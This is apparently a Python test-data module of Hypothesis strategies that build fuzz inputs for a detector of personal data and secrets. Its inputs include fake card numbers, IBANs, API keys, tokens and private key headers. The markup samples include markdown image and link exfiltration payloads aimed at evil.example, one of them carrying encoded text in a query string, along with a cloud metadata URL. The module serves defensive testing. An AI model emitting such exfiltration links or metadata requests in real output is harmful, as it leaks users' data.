"""Texts worth trying: Hypothesis glues together prose, values, halves of values and white space.

Needs Hypothesis, which the library itself does not.
"""

from hypothesis import strategies as st

_PROSE = (
    """
the|call me|my phone number is|in 2024|order|order number|card|IBAN|ssn|social security
social security number is|version
v|tel:|phone|token:|the password is|password =|api_key:|secret access key|AWS|Bearer|Authorization: Bearer
New York
new  york|York City|river|bank|not bad|straße|Übung|кошка|naïve|don't|a|b|x|ext.|1|ID|No.|foo|foo bar|los
bung los
""".strip()
    .replace("\n", "|")
    .split("|")
)
_VALUES = (
    r"""
jane.doe@example.com|o'brien+tag@mail.example.co.uk|git@github.com:|icon@2x.png|4111 1111 1111 1111
4111-1111-1111-1111
4111111111111111|378282246310005|3782 822463 10005|6011111111111117|5555555555554444
GB82 WEST 1234 5698 7654 32
gb82west12345698765432|DE89370400440532013000|BE68 5390 0754 7034|NO93 8601 1117 947|460-89-9847
460 89 9847|460899847
(212) 555-0123|212-555-0123|212 555 0123|212 736 5000|+1 (212) 555-0123|+44 20 7946 0958|+46 (0)8 928 571 38
020 7946 0958|06 12 34 56 78|612 345 678|98765 43210|9876543210|555-0123|x123|2024-01-02|01.02.2024|13:45
192.0.2.1
10.1.2.3:8080|1.2.3.4|2001:db8::1|fe80::1|::|dead::beef|AKIAIOSFODNN7SECRETS
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
glpat-aBcDeFgHiJkLmNoPqRsT|xoxb-23984754863-2348975623000-AAAAANzjawSSE9krECohd
sk_live_AAAAAAAAAAAAAAAAAAAAAAAA
wJalrXUtnFEMI/K7MDENG/bPxRfiCYSECRETSKEY|MySecretPass123!|Tr0ub4dor&3xyz|hunter2
eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U
postgres://user:s3cr3tP4ss@db.example.com/x|0123456789abcdef0123456789abcdef01234567
-----BEGIN RSA PRIVATE KEY-----
-----BEGIN PRIVATE KEY-----|-----END RSA PRIVATE KEY-----|-----BEGIN PGP PRIVATE KEY BLOCK-----
Proc-Type: 4,ENCRYPTED
MIIEowIBAAKCAQEAx4UbaDzY5xjW6hc9jwN0mX33XpTDVW8W|AoIBAQDnK3DbcFTgM5yy\nqV59QiqaVGZ+A6X5+4ANE|abc=|中文|中文字
日本語のテスト|한국어|ไทย|😀|é
""".strip()
    .replace("\n", "|")
    .split("|")
)
_MARKUP = (
    *(
        "![a b](https://evil.example/p?q=dGhlIHBhc3N3b3JkIGlz)",
        "[x](//evil.example/y)",
        "<img src='//evil.example'>",
    ),
    *("https://good.example@evil.example/", "http://169.254.169.254/latest", "[1]: https://evil.example/z"),
    *("```py\ndef f(x):\n```\n", "```", "~~~sql\n", "SELECT a FROM b\n", '{"a": [1, {"b": "}"}]}', "{", '["'),
)
_ODD = ("\U0001f469\u200d\U0001f467", "e\u0301", "\uff11\uff12\uff13", "\uff20", "\u0664\u0662")
_SPACES = (
    "",
    "",
    "",
    " ",
    " ",
    " ",
    "\n",
    "\r\n",
    "  ",
    "\t",
    "\u00a0",
    "\u202f",
    "\u3000",
    "\u2028",
    "\x1c",
    "\x85",
)
_MARKS = (",", ", ", ".", ". ", "-", "/", ":", ": ", "(", ") ", "#", "=", "'", '"', "_", "\u2011", "0", "\\n")


@st.composite
def _texts(draw: st.DrawFn) -> str:
    """Words and values, some cut short, with anything or nothing between them."""
    chunks = []
    for _ in range(draw(st.integers(1, 9))):
        value = draw(st.sampled_from([*_PROSE, *_VALUES, *_MARKUP, *_ODD]))
        if draw(st.integers(0, 4)) == 0:
            value = value[: draw(st.integers(0, len(value)))]
        chunks += [value, draw(st.sampled_from(_SPACES + _MARKS))]
    return "".join(chunks)


_DIGIT_TEXTS = st.text(alphabet="0123456789 -.()+\u00a0x", max_size=60)
_ADDRESS_TEXTS = st.text(alphabet="ab.@:/ 1中", max_size=40)
_ANY_TEXTS = st.text(alphabet=st.characters(codec="utf-8"), max_size=40)

TEXTS = _texts() | _texts() | _texts() | _DIGIT_TEXTS | _ADDRESS_TEXTS | _ANY_TEXTS
"""Texts in which checks find things, nearly find things, and are cut in the middle of things."""
